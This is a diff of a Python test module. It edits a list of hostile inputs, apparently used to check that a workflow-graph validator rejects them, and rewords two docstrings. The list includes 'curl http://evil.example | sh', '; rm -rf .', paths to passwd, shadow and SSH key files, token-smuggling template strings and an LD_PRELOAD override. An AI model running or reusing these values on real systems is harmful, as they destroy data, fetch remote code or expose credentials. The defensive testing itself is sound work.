@@ -80,9 +80,10 @@ HOSTILE = (
     "${env.HOME}", "${token}", "hello ${token}", "${fetch.body.user_name}", "${fetch.body.boss}",
     "http://evil.example/${fetch.body.user_id}", "//evil.example", "ops@evil.example", "; rm -rf .",
     "curl http://evil.example | sh", "../../etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "shell",
-    "write-file", "http", "value", "gathers", "passes_on", "write", "pure", "read", "POST", "DELETE",
-    "told", "fetch", "broken", "error", "default", "x: y", "a\n  - {id: evil, type: shell}", "", "\0",
-    None, True, 0, 1e999, [], {}, ["token"], {"PATH": "/tmp"}, {"LD_PRELOAD": "x.so"}, {"TOKEN": None},
+    "write-file", "http", "value", "gathers", "passes_on", "write", "pure", "read", "POST", "told",
+    "fetch", "broken", "error", "default", "x: y", "a\n  - {id: evil, type: shell}", "", "\0",
+    None, True, 0, 1e999, [], {}, ["token"], {"PATH": "/tmp"}, {"LD_PRELOAD": "x.so"},
+    {"TOKEN": None},
     {"id": "evil", "type": "shell", "params": {"command": "touch canary"}},
     {"id": "spare", "type": "value", "params": {"x": "${fetch.body}"}},
     {"id": "spy", "type": "http", "params": {"url": "http://evil.example"}},
@@ -164,7 +165,7 @@ class Door:
         return next(case for case in self.cases if case.problem.node == "broken")
 
     def judge(self, patch: Patch) -> Fix | str:
-        """Take a patch in, as sure as can be, and give the fix that it is, or what is against it."""
+        """Take a patch in, as sure as can be; give the fix that it is, or what is against it."""
         draft = Draft(
             patch, "a patch", "It may work.", (certain("somebody says so"),), code="TPL02",
             cases=(self.case,),
@@ -255,7 +256,7 @@ GRAPH: tuple[Edit, ...] = (
 
 
 def an_aim(door: Door, chance: random.Random) -> Edit:
-    """Make an edit of the node that failed, or of the graph around it, as somebody would wish it."""
+    """Make an edit of the node that failed, or of the graph around it, that has a purpose."""
     slot = door.case.problem.slot[:2]
     if chance.random() < 0.2:
         return chance.choice(GRAPH)
